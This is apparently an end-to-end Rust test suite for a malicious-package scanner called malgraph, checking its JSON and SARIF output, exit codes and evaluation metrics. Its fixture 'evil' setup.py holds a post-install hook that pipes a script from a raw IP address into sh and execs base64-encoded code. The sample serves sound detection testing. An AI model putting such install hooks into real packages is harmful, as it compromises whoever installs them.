//! End-to-end tests of the `malgraph` binary on synthetic packages built here.

mod common;

use assert_cmd::Command;
use common::targz;
use std::path::Path;

const EVIL_SETUP: &str = r#"import os, base64
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        os.system("curl -s http://45.137.21.9/payload.sh | sh")
        exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
        install.run(self)

setup(name="evil", version="1.0", cmdclass={"install": PostInstall})
"#;

const GOOD_SETUP: &str = r#"from setuptools import setup

setup(name="good", version="1.0", packages=["good"])
"#;

fn corpus(dir: &Path) {
    targz(
        &dir.join("evil-1.0.tar.gz"),
        &[
            ("evil-1.0/setup.py", EVIL_SETUP),
            (
                "evil-1.0/PKG-INFO",
                "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n",
            ),
        ],
    );
    targz(
        &dir.join("good-1.0.tar.gz"),
        &[
            ("good-1.0/setup.py", GOOD_SETUP),
            (
                "good-1.0/good/__init__.py",
                "def add(a, b):\n    return a + b\n",
            ),
        ],
    );
    std::fs::write(dir.join("empty-0.1.tar.gz"), b"").unwrap();
}

fn malgraph() -> Command {
    Command::cargo_bin("malgraph").unwrap()
}

fn json_records(out: &[u8]) -> Vec<serde_json::Value> {
    String::from_utf8_lossy(out)
        .lines()
        .map(|l| serde_json::from_str(l).expect("each line is one JSON object"))
        .collect()
}

#[test]
fn json_lines_one_record_per_archive_with_the_documented_fields() {
    let dir = tempfile::tempdir().unwrap();
    corpus(dir.path());
    let out = malgraph()
        .args(["scan", "--format", "json"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "malicious package -> exit 1");
    let recs = json_records(&out.stdout);
    assert_eq!(recs.len(), 3);
    for r in &recs {
        for key in [
            "path",
            "ecosystem",
            "name",
            "version",
            "sha256",
            "verdict",
            "score",
            "categories",
            "stages",
            "evasion",
            "findings",
            "iocs",
            "platforms",
            "stats",
            "error",
        ] {
            assert!(r.get(key).is_some(), "missing {key} in {r}");
        }
        for key in ["urls", "domains", "ips", "emails", "webhooks", "wallets"] {
            assert!(r["iocs"].get(key).is_some());
        }
        for key in ["files", "code_bytes", "code_lines", "flagged_lines"] {
            assert!(r["stats"].get(key).is_some());
        }
    }
    let by_name = |n: &str| {
        recs.iter()
            .find(|r| r["path"].as_str().unwrap().ends_with(n))
            .unwrap()
    };
    let evil = by_name("evil-1.0.tar.gz");
    assert_eq!(evil["verdict"], "malicious");
    assert_eq!(evil["name"], "evil");
    assert!(evil["error"].is_null());
    assert_eq!(evil["sha256"].as_str().unwrap().len(), 64);
    let f = &evil["findings"][0];
    for key in [
        "rule", "category", "severity", "stage", "file", "line", "snippet", "layer",
    ] {
        assert!(f.get(key).is_some(), "finding lacks {key}");
    }
    assert!(
        evil["stages"]
            .as_array()
            .unwrap()
            .contains(&"install".into())
    );
    assert!(
        evil["iocs"]["ips"]
            .as_array()
            .unwrap()
            .contains(&"45.137.21.9".into())
            || evil["iocs"]["urls"]
                .as_array()
                .unwrap()
                .iter()
                .any(|u| u.as_str().unwrap().contains("45.137.21.9"))
    );
    let good = by_name("good-1.0.tar.gz");
    assert_eq!(good["verdict"], "benign");
    let empty = by_name("empty-0.1.tar.gz");
    assert!(empty["error"].as_str().unwrap().len() > 3);
}

#[test]
fn exit_codes() {
    let dir = tempfile::tempdir().unwrap();
    corpus(dir.path());
    // Only benign -> 0.
    malgraph()
        .args(["scan", "--format", "json"])
        .arg(dir.path().join("good-1.0.tar.gz"))
        .assert()
        .code(0);
    // Nothing readable -> 2.
    malgraph()
        .arg("scan")
        .arg(dir.path().join("empty-0.1.tar.gz"))
        .assert()
        .code(2);
    // Usage errors -> 2.
    malgraph().arg("scan").assert().code(2);
    malgraph()
        .args(["scan", "--format", "yaml"])
        .arg(dir.path())
        .assert()
        .code(2);
    malgraph()
        .arg("scan")
        .arg(dir.path().join("does-not-exist"))
        .assert()
        .code(2);
    // The failing level is configurable; text output names the verdict.
    let out = malgraph()
        .args(["scan", "--fail-on", "suspicious"])
        .arg(dir.path().join("evil-1.0.tar.gz"))
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stdout).contains("MALICIOUS"));
}

#[test]
fn unpacked_folder_is_one_package() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("setup.py"), EVIL_SETUP).unwrap();
    let out = malgraph()
        .args(["scan", "--format", "json"])
        .arg(dir.path())
        .output()
        .unwrap();
    let recs = json_records(&out.stdout);
    assert_eq!(recs.len(), 1);
    assert!(recs[0]["sha256"].is_null());
    assert_eq!(recs[0]["verdict"], "malicious");
}

#[test]
fn sarif_output_is_a_sarif_log() {
    let dir = tempfile::tempdir().unwrap();
    corpus(dir.path());
    let out = malgraph()
        .args(["scan", "--format", "sarif"])
        .arg(dir.path())
        .output()
        .unwrap();
    let log: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(log["version"], "2.1.0");
    let results = log["runs"][0]["results"].as_array().unwrap();
    assert!(results.iter().any(|r| r["ruleId"] == "MALGRAPH-VERDICT"));
}

#[test]
fn eval_reports_confusion_matrix_as_json() {
    let dir = tempfile::tempdir().unwrap();
    corpus(dir.path());
    let mal = dir.path().join("mal.csv");
    std::fs::write(&mal, "path\nevil-1.0.tar.gz\n").unwrap();
    let ben = dir.path().join("ben.jsonl");
    std::fs::write(&ben, "{\"path\": \"good-1.0.tar.gz\"}\n").unwrap();
    let out = malgraph()
        .args(["eval", "--format", "json", "--malicious"])
        .arg(&mal)
        .arg("--benign")
        .arg(&ben)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0));
    let e: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(e["confusion"]["tp"], 1);
    assert_eq!(e["confusion"]["tn"], 1);
    assert_eq!(e["recall"], 1.0);
    assert_eq!(e["false_positive_rate"], 0.0);
}
